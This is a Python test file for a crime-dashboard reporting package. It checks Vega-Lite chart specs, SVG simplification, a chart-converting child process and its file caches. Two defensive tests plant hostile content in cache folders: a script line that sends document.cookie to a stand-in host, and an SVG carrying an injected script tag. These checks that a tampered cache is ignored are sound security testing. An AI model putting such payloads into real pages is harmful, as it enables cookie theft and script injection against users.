"""The Vega-Lite specs of the pack's charts and maps. They are built without Altair's schema
validation (it was most of the time of building them), so every kind the pack makes is
validated here, from the session's demo pack, against the Vega-Lite schema Altair bundles."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from altair.vegalite.v6.schema import SCHEMA_URL, core

from saferboard.measures import hotspots as h
from saferboard.report import maps, vega
from saferboard.report.charts import inline_data
from tests.test_hotspots import barnet_burglary_points


@pytest.fixture(scope="module")
def validator() -> Any:
    schema = core.load_schema()
    return jsonschema.validators.validator_for(schema)(schema)


def _pack_specs(html: str) -> dict[str, Any]:
    match = re.search(r"const specs = (.*);\n", html)
    assert match
    specs: dict[str, Any] = json.loads(match.group(1).replace("<\\/", "</"))
    return specs


def _data(spec: Any) -> list[dict[str, Any]]:
    """Every data source in a spec, at any depth."""
    if isinstance(spec, list):
        return [d for item in spec for d in _data(item)]
    if not isinstance(spec, dict):
        return []
    own = [spec["data"]] if isinstance(spec.get("data"), dict) else []
    return own + [d for k, v in spec.items() if k != "data" for d in _data(v)]


def test_every_spec_of_the_pack_is_valid_vega_lite(demo, validator):
    specs = _pack_specs(demo.pack.html.read_text(encoding="utf-8"))
    kinds = {name.split("-")[0] for name in specs}
    assert kinds == {"trend", "peer", "target", "place"}
    for name, spec in specs.items():
        assert spec["$schema"] == SCHEMA_URL, name
        errors = [e.message for e in validator.iter_errors(spec)]
        assert not errors, (name, errors[:3])
        # The named sources the builders use are all filled in: no chart is drawn empty.
        sources = _data(spec)
        assert sources and all(set(d) == {"values"} and d["values"] for d in sources), name
    # The validator does reject a wrong spec (a legend on an unknown side).
    bad = json.loads(json.dumps(specs["place-0"]))
    bad["layer"][0]["encoding"]["color"]["legend"]["orient"] = "sideways"
    assert list(validator.iter_errors(bad))


def test_trend_chart_holds_the_36_months(demo):
    specs = _pack_specs(demo.pack.html.read_text(encoding="utf-8"))
    page = next(p for p in demo.dashboard.rows if p.category == "Residential burglary")
    index = [r.category for r in demo.dashboard.rows if r.source is not None].index(
        page.category)
    rows = specs[f"trend-{index}"]["data"]["values"]
    assert len(rows) == 36
    assert rows[-1]["month"] == f"{page.month:%Y-%m-01}"


def test_pdf_charts_and_map_keep_their_text(demo):
    """The PDF draws the figures from <img> SVGs: their text (axis titles, ward names on
    the map) is still text a reader can select and search."""
    text = " ".join(subprocess.run(["pdftotext", str(demo.pack.pdf), "-"], capture_output=True,
                                   text=True, check=True).stdout.split())
    assert "Crimes per 1,000 residents, rolling 12 months (95% interval)" in text
    assert "Residential burglary (crimes per month)" in text
    assert "Gi* class" in text and "West Finchley" in text


@pytest.fixture(scope="module")
def barnet() -> tuple[h.HotspotResult, Any]:
    x, y = barnet_burglary_points()
    _, geom = h.boundary("Barnet")
    return h.gistar(h.grid_counts(x, y, geom, 200)), geom


def test_map_spec_draws_every_cell_once_in_its_class(barnet, validator):
    """One MultiPolygon per class (legend order), holding each of its cells' squares once."""
    result, geom = barnet
    spec = maps.map_spec(maps.hotspot_layer(result), geom, "Burglary hotspots, Barnet")
    assert not list(validator.iter_errors(spec))
    features = spec["layer"][0]["data"]["values"]
    classes = [f["properties"]["class"] for f in features]
    assert classes == [k for k in maps.CLASS_COLOURS if k in set(classes)]
    drawn = sorted((f["properties"]["class"], polygon[0][0])
                   for f in features for polygon in f["geometry"]["coordinates"])
    half = result.cell_size / 2
    expected = sorted((c.hotspot, (c.x - half, c.y - half)) for c in result.cells)
    assert drawn == expected and len(drawn) == len(result.cells) > 2000


def test_inline_data_fills_named_sources_at_any_depth():
    spec = {"data": {"name": "a"}, "layer": [{"data": {"name": "b"}, "mark": "line"},
                                             {"data": {"name": "other"}}]}
    out = inline_data(spec, {"a": [{"x": 1}], "b": [{"y": 2}]})
    assert out == {"data": {"values": [{"x": 1}]},
                   "layer": [{"data": {"values": [{"y": 2}]}, "mark": "line"},
                             {"data": {"name": "other"}}]}


def _bar(n: int) -> dict[str, Any]:
    return {"mark": "bar", "data": {"values": [{"x": str(i), "y": i} for i in range(n)]},
            "encoding": {"x": {"field": "x", "type": "nominal"},
                         "y": {"field": "y", "type": "quantitative"}}}


def test_converter_returns_each_svg_in_order_as_vl_convert_draws_it():
    specs = [_bar(n) for n in (3, 1, 7)]
    with vega.Converter() as converter:
        for spec in specs:
            converter.submit(spec)
        svgs = converter.finish()
    assert svgs == [vega.to_svg(s) for s in specs]  # the child's answer, in this process
    assert [s.count('aria-roledescription="bar"') for s in svgs] == [3, 1, 7]


def _png(svg: str) -> Any:
    import io

    import numpy as np
    import vl_convert as vlc
    from PIL import Image

    image = Image.open(io.BytesIO(vlc.svg_to_png(svg, scale=2))).convert("RGBA")
    return np.asarray(image).astype(int)


def _texts(svg: str) -> list[str]:
    """The text a reader sees, in order (Vega hides overlapping axis labels: opacity 0)."""
    return [t for attrs, t in re.findall(r"<text([^>]*)>([^<]*)</text>", svg)
            if 'opacity="0"' not in attrs]


@pytest.mark.parametrize("kind", ["trend-0", "peer-0", "target-0", "place-0"])
def test_simplified_figures_draw_the_same(demo, kind):
    """vega.simplify (the pack's figures, for WeasyPrint) drops about half the elements of a
    chart and draws the same picture with the same visible text. Rendered by vl-convert's
    resvg at 2x, pixels differ only by rounding where an opacity became a fill-opacity and
    by the anti-aliasing of a dot or two."""
    import vl_convert as vlc

    spec = _pack_specs(demo.pack.html.read_text(encoding="utf-8"))[kind]
    raw = vlc.vegalite_to_svg(spec)
    raw = raw[raw.index("<svg"):]
    svg = vega.simplify(raw)
    elements = len(re.findall(r"<\w", svg))
    assert elements < 0.75 * len(re.findall(r"<\w", raw)), (elements, kind)
    assert _texts(svg) == _texts(raw) and 'opacity="0"' not in svg
    # Ticks and grid lines are a path per axis; left as lines: each axis's domain line and
    # the peers' interval rules (data marks, each with its aria-label).
    assert len(re.findall(r"<line (?![^>]*aria-label)", svg)) <= 2, kind
    before, after = _png(raw), _png(svg)
    assert before.shape == after.shape
    differs = abs(before - after).max(axis=2)
    assert differs.max() <= 16 and (differs > 2).sum() <= 10, (differs.max(), kind)


def test_simplify_keeps_what_draws_and_merges_alike_lines():
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50">'
        '<defs><clipPath id="c"><rect width="9" height="9"/></clipPath></defs>'
        '<g fill="none"><g class="axis">'
        '<path class="background" d="M0,0h9v9h-9Z"/>'
        '<line transform="translate(3,4)" x2="0" y2="5" stroke="#888" opacity="1"/>'
        '<line transform="translate(7.25,4)" x2="0" y2="5" stroke="#888"/>'
        '<line x1="1" x2="2" stroke="#888" stroke-dasharray="2,2"/>'
        '<line x2="9" stroke="#888" aria-label="a data mark"/>'
        '<path d="M0,0h1" stroke="red" display="none"/>'
        '<text opacity="0" fill="#000">hidden</text><text fill="#000">shown</text>'
        '</g><g transform="translate(1,1)"><path d="M0,0h5v5Z" fill="#00f" opacity="0.5"'
        ' clip-path="url(#c)"/></g><g class="empty"><path d="M0,0h1"/></g></g></svg>')
    assert vega.simplify(svg) == (
        '<svg width="50" height="50" xmlns="http://www.w3.org/2000/svg">'
        '<defs><clipPath id="c"><rect width="9" height="9" /></clipPath></defs>'
        '<g fill="none">'
        '<path stroke="#888" d="M3,4L3,9M7.25,4L7.25,9" />'
        '<line x1="1" x2="2" stroke="#888" stroke-dasharray="2,2" />'
        '<line x2="9" stroke="#888" aria-label="a data mark" />'
        '<text fill="#000">shown</text>'
        '<g transform="translate(1,1)"><path d="M0,0h5v5Z" fill="#00f" clip-path="url(#c)"'
        ' fill-opacity="0.5" /></g></g></svg>')


def test_converter_names_the_chart_it_could_not_convert():
    with vega.Converter() as converter:
        converter.submit(_bar(2))
        converter.submit({"layer": 5})  # not a list of layers
        with pytest.raises(ValueError, match="chart 2 of 2: vl-convert failed"):
            converter.finish()


def test_converter_says_when_its_process_stopped():
    with vega.Converter() as converter:
        converter.submit(_bar(2))
        converter._child.kill()
        with pytest.raises(RuntimeError, match=r"chart converter .* stopped after"):
            converter.finish()
    assert converter._child.poll() is not None  # and leaving the block ends the child


def test_vega_bundle_is_cached_per_vl_convert_version(tmp_path, monkeypatch):
    from importlib.metadata import version

    import vl_convert as vlc

    from saferboard.report.pack import _vega_javascript

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    bundle = _vega_javascript()
    assert bundle == vlc.javascript_bundle()  # type: ignore[call-arg]
    cached = tmp_path / "saferboard" / f"vl-convert-{version('vl-convert-python')}-bundle.js"
    assert cached.read_text(encoding="utf-8") == bundle
    assert [p.name for p in cached.parent.iterdir()] == [cached.name]  # no partial file
    cached.write_text("// from the cache", encoding="utf-8")
    assert _vega_javascript() == "// from the cache"  # read, not bundled again
    # A cache that cannot be written (its folder is a file) only costs the bundling.
    blocked = tmp_path / "blocked"
    blocked.write_text("", encoding="utf-8")
    monkeypatch.setenv("XDG_CACHE_HOME", str(blocked))
    assert _vega_javascript() == bundle


def test_a_bundle_in_a_folder_others_may_write_to_is_not_used(tmp_path, monkeypatch):
    """The bundle goes into the interactive HTML as a script: one planted in a cache folder
    that is not private must not reach a pack (bundled again instead)."""
    from importlib.metadata import version

    from saferboard.report.pack import _vega_javascript

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    bundle = _vega_javascript()
    folder = tmp_path / "saferboard"
    assert folder.stat().st_mode & 0o777 == 0o700  # whatever the umask
    planted = folder / f"vl-convert-{version('vl-convert-python')}-bundle.js"
    planted.write_text("fetch('https://example.invalid/?' + document.cookie)", encoding="utf-8")
    folder.chmod(0o777)
    assert _vega_javascript() == bundle


def test_other_versions_bundles_unused_for_30_days_are_removed(tmp_path, monkeypatch):
    from saferboard.report.pack import _vega_javascript

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    bundle = _vega_javascript()
    folder = tmp_path / "saferboard"
    (current,) = folder.iterdir()
    old, recent = time.time() - 31 * 86400, time.time() - 29 * 86400
    os.utime(current, (old, old))
    planted = {name: folder / name for name in (
        "vl-convert-0.1.0-bundle.js", "vl-convert-0.2.0-bundle.js", "vl-convert-9-bundlex.tmp")}
    for name, path in planted.items():
        path.write_text("// an older version's", encoding="utf-8")
        when = recent if "0.2.0" in name else old
        os.utime(path, (when, when))
    assert _vega_javascript() == bundle  # read, so used
    assert current.stat().st_mtime > recent
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [current.name, "vl-convert-0.2.0-bundle.js"])


def test_leaving_the_converter_early_ends_its_process():
    """An error while the pack is built (here, before finish) must not leave the child."""
    with pytest.raises(KeyError), vega.Converter() as converter:
        for n in range(20):
            converter.submit(_bar(200 + n))  # more than a pipe holds
        raise KeyError("a section failed")
    assert converter._child.wait(timeout=10) is not None
    assert not converter._writer.is_alive() and not converter._reader.is_alive()


def test_converter_child_imports_the_same_saferboard(tmp_path, monkeypatch):
    """With another saferboard first on PYTHONPATH (another checkout), the child still runs
    the converter of the package the pack's process imported."""
    fake = tmp_path / "saferboard" / "report"
    fake.mkdir(parents=True)
    (tmp_path / "saferboard" / "__init__.py").write_text("", encoding="utf-8")
    (fake / "__init__.py").write_text("", encoding="utf-8")
    (fake / "vega.py").write_text(
        "import sys\nfor line in sys.stdin:\n    print('{\"svg\": \"another\"}', flush=True)\n",
        encoding="utf-8")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    with vega.Converter() as converter:
        converter.submit(_bar(1))
        assert converter.finish()[0].startswith("<svg")


# The SVG cache (Converter(cache=...)): one conversion fills it for the module; each test
# works on its own copy, in tmp_path, never the user's cache.

class _Started(Exception):
    """Raised instead of starting the converter's child process."""


def _no_child(monkeypatch: pytest.MonkeyPatch) -> None:
    def popen(*args: Any, **kwargs: Any) -> None:
        raise _Started
    monkeypatch.setattr(vega.subprocess, "Popen", popen)


_CACHED = [_bar(n) for n in (3, 1, 7)]


@pytest.fixture(scope="module")
def filled(tmp_path_factory) -> tuple[Path, list[str]]:
    cache = tmp_path_factory.mktemp("cache")
    with vega.Converter(cache) as converter:
        # An empty cache: every spec will miss, so the child starts at once, as without one.
        assert converter._child is not None
        for spec in _CACHED:
            converter.submit(spec)
        svgs = converter.finish()
    return cache, svgs


def _copy(filled: tuple[Path, list[str]], tmp_path: Path) -> tuple[Path, list[Path]]:
    """A copy of the filled cache, and the file of each of _CACHED's SVGs in it."""
    cache = tmp_path / "cache"
    shutil.copytree(filled[0], cache)
    (folder,) = cache.iterdir()
    texts = {f: f.read_text(encoding="utf-8") for f in folder.iterdir()}
    return cache, [next(f for f, text in texts.items() if text == svg) for svg in filled[1]]


def test_cached_svgs_come_back_identical_without_a_child(filled, tmp_path, monkeypatch):
    first = filled[1]
    assert [s.count('aria-roledescription="bar"') for s in first] == [3, 1, 7]
    cache, files = _copy(filled, tmp_path)
    (folder,) = cache.iterdir()
    assert folder.name.startswith("charts-") and len(files) == 3
    assert all(len(f.stem) == 64 and f.suffix == ".svg" for f in files)
    assert len(set(files)) == 3 == len(list(folder.iterdir()))
    assert folder.stat().st_mode & 0o777 == 0o700  # whatever the umask: see the docstring
    assert {f.stat().st_mode & 0o777 for f in files} == {0o600}
    month_ago = time.time() - 29 * 86400
    for f in files:
        os.utime(f, (month_ago, month_ago))
    _no_child(monkeypatch)
    # The same specs, one with its keys in another order (the same JSON object).
    specs = [*_CACHED[:2], dict(reversed(_CACHED[2].items()))]
    assert list(specs[2]) != list(_CACHED[2])
    with vega.Converter(cache) as converter:
        for spec in specs:
            converter.submit(spec)
        assert converter.finish() == first
    assert converter._child is None
    assert all(f.stat().st_mtime > month_ago + 86400 for f in files)  # used: kept longer


def test_a_changed_spec_and_a_truncated_file_are_converted_in_order(filled, tmp_path):
    cache, files = _copy(filled, tmp_path)
    cut = files[2]  # _bar(7)'s
    cut.write_bytes(cut.read_bytes()[:1000])  # as a full disk would leave it
    specs = [_CACHED[0], _CACHED[2], _bar(5), _CACHED[1]]
    with vega.Converter(cache) as converter:
        for spec in specs:
            converter.submit(spec)
        svgs = converter.finish()
    assert [svgs[0], svgs[3], svgs[1]] == filled[1]
    assert [s.count('aria-roledescription="bar"') for s in svgs] == [3, 7, 5, 1]
    assert converter._asked and [i for i, _ in converter._asked] == [1, 2]  # only those
    assert cut.read_text(encoding="utf-8") == filled[1][2]  # whole again
    assert len(list(cut.parent.iterdir())) == 4  # the new chart too, and no partial file


def test_a_cache_that_cannot_be_written_still_converts(tmp_path):
    blocked = tmp_path / "blocked"
    blocked.write_text("", encoding="utf-8")  # a file where the folder would be
    with vega.Converter(blocked) as converter:
        converter.submit(_bar(2))
        svgs = converter.finish()
    assert svgs[0].count('aria-roledescription="bar"') == 2
    assert blocked.read_text(encoding="utf-8") == ""


def test_the_key_changes_with_vl_convert_s_version(filled, tmp_path, monkeypatch):
    cache, _ = _copy(filled, tmp_path)
    _no_child(monkeypatch)
    monkeypatch.setattr(vega, "vl_convert_version", lambda: "0.0.0-another")
    with pytest.raises(_Started), vega.Converter(cache) as converter:
        converter.submit(_CACHED[0])  # a miss: the child would start to convert it
    old, new = sorted(cache.iterdir(), key=lambda f: len(list(f.iterdir())))[::-1]
    assert len(list(old.iterdir())) == 3 and not list(new.iterdir())  # another key's folder


def test_a_cache_others_may_write_to_is_not_used(filled, tmp_path, monkeypatch):
    """The SVGs go into the pack unescaped: one planted in a folder that is not private must
    not reach a pack."""
    cache, files = _copy(filled, tmp_path)
    for f in files:
        f.write_text("<svg><script>alert(1)</script></svg>", encoding="utf-8")
    files[0].parent.chmod(0o777)
    _no_child(monkeypatch)
    with pytest.raises(_Started), vega.Converter(cache) as converter:
        for spec in _CACHED:
            converter.submit(spec)


def test_entries_unused_for_30_days_are_removed(filled, tmp_path, monkeypatch):
    cache, files = _copy(filled, tmp_path)
    old = time.time() - 31 * 86400
    recent = time.time() - 29 * 86400
    os.utime(files[0], (old, old))
    os.utime(files[1], (recent, recent))
    other = cache / "charts-0123456789abcdef"  # an older vl-convert's, its last file stale
    other.mkdir()
    (other / "x.svg").write_text("<svg></svg>", encoding="utf-8")
    os.utime(other / "x.svg", (old, old))
    _no_child(monkeypatch)
    with vega.Converter(cache) as converter:
        converter.submit(_CACHED[2])  # a hit: no child, and the scan runs at finish
        converter.finish()
    assert not files[0].exists() and files[1].exists() and files[2].exists()
    assert not other.exists() and len(list(cache.iterdir())) == 1
